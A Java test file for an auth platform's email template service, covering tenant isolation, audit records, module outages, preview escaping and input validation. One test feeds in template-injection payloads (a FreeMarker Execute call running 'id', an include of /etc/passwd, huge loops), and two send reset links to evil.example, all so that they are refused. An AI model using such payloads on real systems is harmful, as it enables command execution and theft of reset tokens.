package org.lumoauth.platform.messaging.template;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.lumoauth.testkit.builder.Builders.aTenant;

import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Objects;
import java.util.Optional;
import java.util.Set;
import org.lumoauth.api.audit.Initiator;
import org.lumoauth.api.message.MessageTemplates;
import org.lumoauth.api.message.MessageTemplates.Template;
import org.lumoauth.api.tenant.TenantContext;
import org.lumoauth.api.web.Problem;
import org.lumoauth.platform.persistence.testkit.DatabaseTest;
import org.lumoauth.platform.persistence.testkit.TestDatabase;
import org.lumoauth.testkit.fake.FakeAuditLog;
import org.lumoauth.testkit.fake.FakeProviderRegistry;
import org.lumoauth.testkit.race.AtOnce;

class EmailTemplatesTest {
  private static final TenantContext ACME = aTenant().build();
  private static final TenantContext GLOBEX = aTenant("globex").build();
  private static final Initiator ADMIN = Initiator.server("test");
  private static final Locale EN = Locale.ENGLISH;
  private static final Template OWN =
      new Template(
          Optional.of("Hello"), "Open ${link}", Optional.of("<a href=\"${link}\">Open</a>"));

  private final FakeAuditLog audit = new FakeAuditLog();

  @DatabaseTest
  void showsWhatTheModuleBringsUntilTheTenantSetsItsOwn(TestDatabase database) {
    var templates = room(database);

    assertFalse(templates.get(ACME, "reset", EN).custom().isPresent());
    assertEquals("Reset ${link}", templates.get(ACME, "reset", EN).content().text());

    templates.put(ACME, "reset", EN, OWN, true, ADMIN);
    assertEquals(OWN, templates.get(ACME, "reset", EN).content());
  }

  @DatabaseTest
  void keepsTemplatesOfOneTenantAndOneLanguageApart(TestDatabase database) {
    var templates = room(database);
    templates.put(ACME, "reset", EN, OWN, true, ADMIN);

    assertFalse(templates.get(GLOBEX, "reset", EN).custom().isPresent());
    assertFalse(templates.get(ACME, "reset", Locale.GERMAN).custom().isPresent());
  }

  @DatabaseTest
  void bringsTheStandardBackOnce(TestDatabase database) {
    var templates = room(database);
    templates.put(ACME, "reset", EN, OWN, true, ADMIN);

    templates.reset(ACME, "reset", EN, ADMIN);

    assertFalse(templates.get(ACME, "reset", EN).custom().isPresent());
    var again = assertThrows(Problem.class, () -> templates.reset(ACME, "reset", EN, ADMIN));
    assertEquals(404, again.status());
  }

  @DatabaseTest
  void recordsAChangeWithWhatWasAndWhatIs(TestDatabase database) {
    room(database).put(ACME, "reset", EN, OWN, true, ADMIN);

    var event = audit.last(ACME.id()).event();
    assertEquals("email_template.changed", event.action());
    assertTrue(event.details().get("old").toString().contains("Reset ${link}"));
    assertTrue(event.details().get("new").toString().contains("Open ${link}"));
  }

  @DatabaseTest
  void recordsOfManyFirstWritersWhatEachChanged(TestDatabase database) throws Exception {
    var templates = room(database);

    for (int round = 0; round < 10; round++) {
      AtOnce.all(
          4,
          writer -> {
            var content = new Template(Optional.empty(), writer + " ${link}", Optional.empty());
            return templates.put(ACME, "reset", EN, content, true, ADMIN);
          });
      templates.reset(ACME, "reset", EN, ADMIN); // displaces the last
    }

    var put = texts("new");
    put.addAll(Collections.nCopies(10, "Reset ${link}"));
    assertEquals(put.stream().sorted().toList(), texts("old").stream().sorted().toList());
  }

  private List<String> texts(String side) {
    List<String> texts = new ArrayList<>();
    audit.of(ACME.id()).stream()
        .map(record -> (Map<?, ?>) record.event().details().get(side))
        .filter(Objects::nonNull)
        .forEach(template -> texts.add((String) template.get("text")));
    return texts;
  }

  @DatabaseTest
  void changesNothingThatCannotBeRecorded(TestDatabase database) {
    var templates = room(database);
    audit.unavailable();

    assertThrows(Problem.class, () -> templates.put(ACME, "reset", EN, OWN, true, ADMIN));
    assertFalse(templates.get(ACME, "reset", EN).custom().isPresent());
  }

  @DatabaseTest
  void knowsNoTemplateThatNoModuleBrings(TestDatabase database) {
    assertEquals(
        404, assertThrows(Problem.class, () -> room(database).get(ACME, "other", EN)).status());
  }

  @DatabaseTest
  void callsNoTemplateUnknownWhileAModuleIsAwayThatMayBringIt(TestDatabase database) {
    var templates = room(database);
    registry.lacking(MessageTemplates.class, "registration", "authn-registration");

    var refusal = assertThrows(Problem.class, () -> templates.get(ACME, "other", EN));

    assertEquals(503, refusal.status());
    assertEquals("authn-registration", refusal.details().get("module"));
    assertEquals("Reset ${link}", templates.get(ACME, "reset", EN).content().text());
  }

  @DatabaseTest
  void callsNoTemplateUnknownWhoseModuleComesBackWhileItIsLookedFor(TestDatabase database) {
    var templates = room(database);
    registry.recovering(
        MessageTemplates.class, "registration", "authn-registration", new One("welcome"));

    var refusal = assertThrows(Problem.class, () -> templates.get(ACME, "welcome", EN));

    assertEquals(503, refusal.status());
    assertEquals("Reset ${link}", templates.get(ACME, "welcome", EN).content().text());
  }

  @DatabaseTest
  void refusesAMessageWithoutItsLink(TestDatabase database) {
    var without = new Template(Optional.of("Hello"), "Hello", Optional.empty());

    assertRefused("body_text", database, without);
  }

  @DatabaseTest
  void refusesWhatIsMoreThanVariables(TestDatabase database) {
    for (String text :
        new String[] {
          "<#list 1..1000000000 as x>${link}</#list>",
          "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
          "${link?left_pad(1000000000)}",
          "${other}",
          "#{link}",
          "<@link/>",
          "[#assign x=1]",
          "[=link]",
          "<#include \"/etc/passwd\">"
        }) {
      assertRefused(
          "body_text",
          database,
          new Template(Optional.of("x"), "${link} " + text, Optional.empty()));
    }
  }

  @DatabaseTest
  void refusesHtmlThatTakesTheLinkElsewhere(TestDatabase database) {
    var content =
        new Template(
            Optional.of("x"),
            "${link}",
            Optional.of(
                "<a href=\"${link}\">Open</a><img src=\"https://evil.example/b?x=${link}\">"));

    assertRefused("body_html", database, content);
  }

  @DatabaseTest
  void refusesTextThatTakesTheLinkElsewhere(TestDatabase database) {
    assertRefused(
        "body_text",
        database,
        new Template(Optional.of("x"), "https://evil.example/?u=${link}", Optional.empty()));
  }

  @DatabaseTest
  void showsAMessageAsItWouldBe(TestDatabase database) {
    var templates = room(database);
    var standing = templates.get(ACME, "reset", EN);

    var preview = templates.preview(standing, OWN, Map.of("link", "https://a.example/?x=\"&y"));

    assertEquals("Open https://a.example/?x=\"&y", preview.text());
    assertEquals(
        Optional.of("<a href=\"https://a.example/?x=&quot;&amp;y\">Open</a>"), preview.html());
  }

  @DatabaseTest
  void tellsWhatAMessageCanShow(TestDatabase database) {
    assertEquals(Set.of("link", "tenant_name"), room(database).variables("reset").keySet());
  }

  @DatabaseTest
  void forgetsATenantThatIsDeleted(TestDatabase database) {
    var templates = room(database);
    templates.put(ACME, "reset", EN, OWN, true, ADMIN);
    templates.put(GLOBEX, "reset", EN, OWN, true, ADMIN);

    store.erase(ACME.id());

    assertFalse(templates.get(ACME, "reset", EN).custom().isPresent());
    assertTrue(templates.get(GLOBEX, "reset", EN).custom().isPresent());
  }

  private final FakeProviderRegistry registry =
      new FakeProviderRegistry().with(MessageTemplates.class, "test", new One("reset"));
  private TemplateStore store;

  private void assertRefused(String member, TestDatabase database, Template content) {
    var templates = room(database);
    var refusal =
        assertThrows(Problem.class, () -> templates.put(ACME, "reset", EN, content, true, ADMIN));
    assertEquals(member, refusal.details().get("field"));
  }

  private EmailTemplates room(TestDatabase database) {
    store = TemplateStore.on(database.open(TemplateStore.DEFINITION));
    return new EmailTemplates(new KnownTemplates(registry), store, audit);
  }

  /** One template in English. */
  private record One(String name) implements MessageTemplates {
    @Override
    public Set<String> names() {
      return Set.of(name);
    }

    @Override
    public Set<String> variables(String any) {
      return Set.of("link");
    }

    @Override
    public Optional<Template> template(String asked, Locale locale) {
      return asked.equals(name) && locale.getLanguage().equals("en")
          ? Optional.of(new Template(Optional.of("Reset"), "Reset ${link}", Optional.empty()))
          : Optional.empty();
    }
  }
}
